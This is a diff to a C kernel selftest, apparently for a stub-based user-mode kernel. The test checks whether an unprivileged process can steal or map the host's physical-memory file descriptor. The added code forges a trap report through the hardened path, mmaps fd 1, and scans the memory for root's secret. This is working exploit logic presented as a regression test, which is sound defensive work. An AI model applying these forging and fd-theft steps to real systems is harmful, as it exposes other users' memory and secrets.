@@ -20,10 +20,14 @@
  *
  * The hardened kernel must not let the fd reach the process: no fd
  * arrives, the recvmsg or mmap is refused, or the process is killed.
+ * Its stub keeps the memory file at fd 1 and never sends it: there the
+ * process forges the same report through the hardened report path, so
+ * that the monitor maps the fresh frame before it answers, and then maps
+ * fd 1 through the gadget, as it would map a stolen fd.
  */
 #include <sys/socket.h>
 #include <sys/stat.h>
-#include "stub_util.h"
+#include "stub_forge.h"
 
 #define ATTEMPTS	8
 #define MAX_CANDS	16
@@ -41,7 +45,8 @@ struct theft_result {
 	 * monitor resumed)
 	 */
 	int answered;
-	int fd;			/* host fd received, -1 if none */
+	int hardened;		/* forged through the hardened report path */
+	int fd;			/* host fd received (or mapped), -1 if none */
 	int fd_attempt;
 	long recv_ret;
 	long map_ret;
@@ -182,6 +187,36 @@ static int steal_once(struct theft_result *r, struct timespec *ts)
 	return fd;
 }
 
+/* The hardened stub's memory file descriptor (STUB_MEM_FD) */
+#define HARDENED_MEM_FD	1
+
+static void theft_hardened(struct theft_result *r, struct timespec *ts)
+{
+	long ret;
+
+	r->hardened = 1;
+	r->attempts = 1;
+	r->map_size = physmem_size();
+	syscall(SYS_getppid);		/* a fresh trap frame to forge from */
+	if (stub_forge(0, SIGSYS, SYS_clock_gettime, CLOCK_MONOTONIC,
+		       (long)ts, 0)) {
+		snprintf(r->err, sizeof(r->err),
+			 "stub_data offsets out of range: nothing to forge");
+		return;
+	}
+	r->answered = ts->tv_sec || ts->tv_nsec;
+	r->stage = ST_SCANNING;
+	ret = stub_syscall6(SYS_mmap, STUB_PHYSMEM_ADDR, r->map_size,
+			    PROT_READ, MAP_SHARED | MAP_FIXED, HARDENED_MEM_FD,
+			    0);
+	r->map_ret = ret;
+	if (ret == (long)STUB_PHYSMEM_ADDR) {
+		r->fd = HARDENED_MEM_FD;
+		scan(r, (const char *)STUB_PHYSMEM_ADDR, r->map_size);
+		stub_syscall2(SYS_munmap, STUB_PHYSMEM_ADDR, r->map_size);
+	}
+}
+
 static void theft_child(struct theft_result *r, const char *path, int go_fd)
 {
 	char *fresh;
@@ -209,6 +244,11 @@ static void theft_child(struct theft_result *r, const char *path, int go_fd)
 		_exit(1);
 	}
 	r->stage = ST_FAKING;
+	if (!stub_find_report()) {
+		theft_hardened(r, (struct timespec *)fresh);
+		r->stage = ST_DONE;
+		_exit(0);
+	}
 	for (i = 0; i < ATTEMPTS && fd < 0; i++) {
 		struct timespec *ts = (void *)(fresh + i * STUB_PAGE);
 
@@ -292,6 +332,11 @@ TEST_F_TIMEOUT(stub_physmem, physmem_fd_cannot_be_stolen, 100)
 	       r->answered, r->fd, r->recv_ret, r->open_errno);
 	if (r->stage < ST_FAKING)
 		STUB_FAIL(return, "set-up failed: %s", r->err);
+	if (r->hardened)
+		TH_LOG("forged through the hardened report path: %s; mmap of fd %d %s %#lx",
+		       r->answered ? "answered" : "not answered",
+		       HARDENED_MEM_FD, r->stage == ST_DONE ? "returned" :
+		       "did not return, at", r->map_ret ? : STUB_PHYSMEM_ADDR);
 	if (r->err[0])
 		TH_LOG("%s", r->err);
 	for (i = 0; i < r->ncand; i++)
@@ -299,10 +344,20 @@ TEST_F_TIMEOUT(stub_physmem, physmem_fd_cannot_be_stolen, 100)
 			found = i;
 	if (found >= 0)
 		STUB_VULNERABLE(return,
-				"uid %d stole host fd %d (physmem) with a faked trap + recvmsg on attempt %d, mapped %lu MiB of it and found root's secret \"%s\" from %s (mode 0600, open() gave errno %d) at physmem offset %#lx",
-				STUB_NOBODY, r->fd, r->fd_attempt,
+				"uid %d got host fd %d (physmem) %s on attempt %d, mapped %lu MiB of it and found root's secret \"%s\" from %s (mode 0600, open() gave errno %d) at physmem offset %#lx",
+				STUB_NOBODY, r->fd,
+				r->hardened ? "from the stub after a forged report" :
+					      "with a faked trap + recvmsg",
+				r->fd_attempt,
 				r->map_size >> 20, r->cand[found], self->path,
 				r->open_errno, r->cand_off[found]);
+	if (r->fd >= 0 && r->hardened)
+		STUB_VULNERABLE(return,
+				"uid %d mapped %lu MiB of the stub's memory fd %d after a forged report (%d candidate(s), secret not found)",
+				STUB_NOBODY, r->map_size >> 20, r->fd, r->ncand);
+	if (r->hardened && !r->answered)
+		STUB_FAIL(return,
+			  "the forged clock_gettime() report was not answered: nothing tested");
 	if (r->fd >= 0)
 		STUB_VULNERABLE(return,
 				"uid %d received host fd %d over the stub socket after a faked trap (mmap of it returned %#lx, %d candidate(s), secret not found)",
